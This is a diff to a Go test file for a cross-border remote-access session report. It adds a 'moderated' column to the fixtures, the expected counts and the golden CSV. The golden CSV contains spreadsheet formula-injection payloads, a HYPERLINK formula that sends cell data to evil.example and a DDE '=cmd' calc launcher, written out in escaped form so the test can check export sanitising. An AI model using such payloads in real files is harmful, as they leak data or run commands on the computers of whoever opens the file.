@@ -41,7 +41,8 @@ type reportSession struct {
 }
 
 // reportStore opens a SQLite store in t.TempDir() holding two approved
-// requests and sessions in, around and outside the report's period.
+// requests and sessions in, around and outside the report's period;
+// moderated are those whose rule asked for moderators.
 func reportStore(t *testing.T) *sqlitestore.Store {
 	t.Helper()
 	ctx := context.Background()
@@ -77,6 +78,7 @@ func reportStore(t *testing.T) *sqlitestore.Store {
 			Rule: "rule-of-" + id, Trace: "[]", StartedAt: started, Recording: "2026/11/" + id + ".cast", Request: request,
 		}
 	}
+	moderated := map[string]bool{"s-before": true, "s-domestic": true, "s-grant-1": true, "s-last": true}
 	for _, rs := range []reportSession{
 		// A second before the period: left out, though it ended inside it.
 		{session("s-before", "li", "ops-cn", "CN", "db-jp-01", "JP", true, 0, reportFrom.Add(-time.Second)),
@@ -99,6 +101,7 @@ func reportStore(t *testing.T) *sqlitestore.Store {
 		// At the end of the period: the next period's.
 		{session("s-after", "wei", "ops-cn", "CN", "app-sg-01", "SG", true, 2, reportTo), nil},
 	} {
+		rs.rec.Moderated = moderated[rs.rec.ID]
 		if err := s.StartSession(ctx, &rs.rec); err != nil {
 			t.Fatal(err)
 		}
@@ -132,6 +135,8 @@ func TestBuildCrossBorderReport(t *testing.T) {
 		byAffiliate  map[string]int
 		byResidency  map[string]int
 		unapproved   int
+		moderated    int
+		unmoderated  int
 		wantApproved map[string][]string // session: approvers
 	}{
 		{
@@ -140,6 +145,8 @@ func TestBuildCrossBorderReport(t *testing.T) {
 			byAffiliate: map[string]int{"ops-cn": 5},
 			byResidency: map[string]int{"JP": 3, "SG": 2},
 			unapproved:  2,
+			moderated:   2,
+			unmoderated: 3,
 			wantApproved: map[string][]string{
 				"s-first": nil, "s-grant-1": {"sato", "-tanaka"}, "s-grant-2": {"sato", "-tanaka"}, "s-gone": nil, "s-last": {"tan"},
 			},
@@ -150,6 +157,8 @@ func TestBuildCrossBorderReport(t *testing.T) {
 			byAffiliate:  map[string]int{"ops-cn": 2},
 			byResidency:  map[string]int{"SG": 2},
 			unapproved:   1,
+			moderated:    1,
+			unmoderated:  1,
 			wantApproved: map[string][]string{"s-gone": nil, "s-last": {"tan"}},
 		},
 		{
@@ -161,6 +170,7 @@ func TestBuildCrossBorderReport(t *testing.T) {
 			sessions:     []string{"s-after"},
 			byAffiliate:  map[string]int{"ops-cn": 1},
 			byResidency:  map[string]int{"SG": 1},
+			unmoderated:  1,
 			wantApproved: map[string][]string{"s-after": {"tan"}},
 		},
 		{
@@ -169,6 +179,7 @@ func TestBuildCrossBorderReport(t *testing.T) {
 			byAffiliate:  map[string]int{"ops-cn": 1},
 			byResidency:  map[string]int{"JP": 1},
 			unapproved:   1,
+			unmoderated:  1,
 			wantApproved: map[string][]string{"s-first": nil},
 		},
 	}
@@ -186,6 +197,9 @@ func TestBuildCrossBorderReport(t *testing.T) {
 			}
 			if r.Unapproved != tt.unapproved {
 				t.Errorf("unapproved %d, want %d", r.Unapproved, tt.unapproved)
+			}
+			if r.Moderated != tt.moderated || r.Unmoderated != tt.unmoderated {
+				t.Errorf("moderated %d, unmoderated %d; want %d, %d", r.Moderated, r.Unmoderated, tt.moderated, tt.unmoderated)
 			}
 			for _, row := range r.Rows {
 				if want := tt.wantApproved[row.Session]; !reflect.DeepEqual(row.ApprovedBy, want) {
@@ -216,13 +230,16 @@ func TestCrossBorderRow(t *testing.T) {
 		Session: "s-grant-1", Technician: "li", Affiliate: "ops-cn", AffiliateCountry: "CN", Source: "198.51.100.9:40022", SourceCountry: "CN",
 		Target: "db-jp-01", Residency: "JP", Data: []string{"pii", "messages"}, Rule: "rule-of-s-grant-1", Request: 1, Reason: injected,
 		ApprovedBy: []string{"sato", "-tanaka"}, Started: time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC), Ended: time.Date(2026, 11, 2, 9, 20, 0, 0, time.UTC),
-		EndReason: "grant ended", BytesIn: 10, BytesOut: 20, Recording: "2026/11/s-grant-1.cast",
+		EndReason: "grant ended", BytesIn: 10, BytesOut: 20, Recording: "2026/11/s-grant-1.cast", Moderated: true,
 	}
 	if got := rows["s-grant-1"]; !reflect.DeepEqual(got, want) {
 		t.Errorf("row\n got %+v\nwant %+v", got, want)
 	}
 	if got := rows["s-gone"].Data; got != nil {
 		t.Errorf("a target no longer configured shows data classes %q", got)
+	}
+	if rows["s-grant-2"].Moderated {
+		t.Error("a session whose rule asked for no moderator reads as moderated")
 	}
 	if got := rows["s-grant-2"]; !got.Ended.IsZero() || got.EndReason != "" {
 		t.Errorf("a live session shows an end: %v %q", got.Ended, got.EndReason)
@@ -261,12 +278,12 @@ func TestCrossBorderReportCSV(t *testing.T) {
 	if err := r.WriteCSV(&b); err != nil {
 		t.Fatal(err)
 	}
-	const golden = `"session","technician","affiliate","affiliate_country","source","source_country","target","residency","data","rule","request","reason","approved_by","started","ended","end_reason","bytes_in","bytes_out","recording","recording_complete"
-"s-first","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-first","","","","2026-11-01T00:00:00Z","2026-11-01T00:10:00Z","client closed","120","4096","2026/11/s-first.cast","false"
-"s-grant-1","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-1","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:00:00Z","2026-11-02T09:20:00Z","grant ended","10","20","2026/11/s-grant-1.cast","false"
-"s-grant-2","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-2","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:40:00Z","","","0","0","2026/11/s-grant-2.cast","false"
-"s-gone","wei","ops-cn","CN","198.51.100.9:40022","CN","web-sg-01","SG","","rule-of-s-gone","","","","2026-11-03T12:00:00Z","2026-11-03T12:01:00Z","'=cmd|' /C calc'!A0","0","0","2026/11/s-gone.cast","false"
-"s-last","wei","ops-cn","CN","198.51.100.9:40022","CN","app-sg-01","SG","pii","rule-of-s-last","2","rotate logs, ticket 7","tan","2026-11-07T23:59:59Z","2026-11-08T01:00:00Z","client closed","0","0","2026/11/s-last.cast","false"
+	const golden = `"session","technician","affiliate","affiliate_country","source","source_country","target","residency","data","rule","request","reason","approved_by","started","ended","end_reason","bytes_in","bytes_out","recording","recording_complete","moderated"
+"s-first","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-first","","","","2026-11-01T00:00:00Z","2026-11-01T00:10:00Z","client closed","120","4096","2026/11/s-first.cast","false","false"
+"s-grant-1","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-1","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:00:00Z","2026-11-02T09:20:00Z","grant ended","10","20","2026/11/s-grant-1.cast","false","true"
+"s-grant-2","li","ops-cn","CN","198.51.100.9:40022","CN","db-jp-01","JP","pii;messages","rule-of-s-grant-2","1","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","sato;-tanaka","2026-11-02T09:40:00Z","","","0","0","2026/11/s-grant-2.cast","false","false"
+"s-gone","wei","ops-cn","CN","198.51.100.9:40022","CN","web-sg-01","SG","","rule-of-s-gone","","","","2026-11-03T12:00:00Z","2026-11-03T12:01:00Z","'=cmd|' /C calc'!A0","0","0","2026/11/s-gone.cast","false","false"
+"s-last","wei","ops-cn","CN","198.51.100.9:40022","CN","app-sg-01","SG","pii","rule-of-s-last","2","rotate logs, ticket 7","tan","2026-11-07T23:59:59Z","2026-11-08T01:00:00Z","client closed","0","0","2026/11/s-last.cast","false","true"
 `
 	if got := b.String(); got != golden {
 		t.Errorf("CSV\n got:\n%s\nwant:\n%s", got, golden)
@@ -278,6 +295,10 @@ func TestCrossBorderReportCSV(t *testing.T) {
 	}
 	if got := records[2][11]; got != "'"+injected {
 		t.Errorf("reason cell read back as %q", got)
+	}
+	// The column added last stays last, after the columns before it.
+	if got := records[0][len(records[0])-1]; got != "moderated" || len(records[0]) != 21 {
+		t.Errorf("header ends with %q after %d columns, want moderated as the 21st", got, len(records[0]))
 	}
 }
 
